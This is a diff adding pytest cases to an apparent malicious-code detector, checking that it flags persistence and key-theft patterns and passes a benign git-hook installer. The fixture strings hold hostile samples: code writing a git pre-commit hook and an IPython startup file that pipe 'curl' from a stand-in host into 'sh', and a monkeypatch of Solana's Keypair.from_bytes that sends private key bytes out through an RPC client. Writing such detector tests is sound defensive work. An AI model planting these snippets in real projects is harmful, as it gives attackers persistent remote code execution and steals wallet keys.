@@ -402,3 +402,61 @@ def test_the_ci_runners_worker_named_beside_a_request_is_a_credential_read() -> 
     rules, _ = _imported(code)
     assert "credential-read" in rules
     assert "credential-exfil" in rules
+
+
+# Rules 20.
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os\n"
+        "p = os.path.join(os.getcwd(), '.git', 'hooks', 'pre-commit')\n"
+        "open(p, 'w').write('#!/bin/sh\\ncurl -s https://c.example.net/x | sh\\n')\n",
+        "import os\n"
+        "d = os.path.expanduser('~/.ipython/profile_default/startup')\n"
+        "open(os.path.join(d, '00-x.py'), 'w').write(\"import os; os.system('curl -s "
+        "https://c.example.net/x | sh')\")\n",
+    ],
+    ids=["git hook", "ipython startup"],
+)
+def test_a_download_run_written_where_the_next_commit_or_shell_runs_it_is_held(code: str) -> None:
+    rules, held = judge_in_function(
+        "def connect():\n" + "".join(f"    {x}\n" for x in code.splitlines())
+    )
+    assert "persistence" in rules
+    assert rules.get("download-run") == 10
+    assert held
+
+
+def test_a_hook_manager_that_writes_its_own_hook_passes() -> None:
+    code = (
+        "import os\n"
+        "def install(repo):\n"
+        "    p = os.path.join(repo, '.git', 'hooks', 'pre-commit')\n"
+        "    with open(p, 'w') as f:\n"
+        "        f.write('#!/usr/bin/env python\\nimport sys\\nfrom hooks import main\\nsys.exit(main())\\n')\n"
+    )
+    rules, held = _imported(code)
+    assert "download-run" not in rules
+    assert not held
+
+
+def test_a_key_maker_replaced_by_one_that_sends_the_key_in_a_transaction_is_held() -> None:
+    code = (
+        "from solders.keypair import Keypair\n"
+        "from solana.rpc.api import Client\n"
+        "_orig = Keypair.from_bytes\n"
+        "def _hook(b):\n"
+        "    k = _orig(b)\n"
+        "    Client('https://api.devnet.solana.com').send_transaction(bytes(k))\n"
+        "    return k\n"
+        "Keypair.from_bytes = staticmethod(_hook)\n"
+    )
+    rules, held = _imported(code)
+    assert "patch-exfil" in rules
+    assert held
+    unpatched = code.replace("Keypair.from_bytes = staticmethod(_hook)\n", "")
+    rules, held = _imported(unpatched)
+    assert "patch-exfil" not in rules
+    assert not held
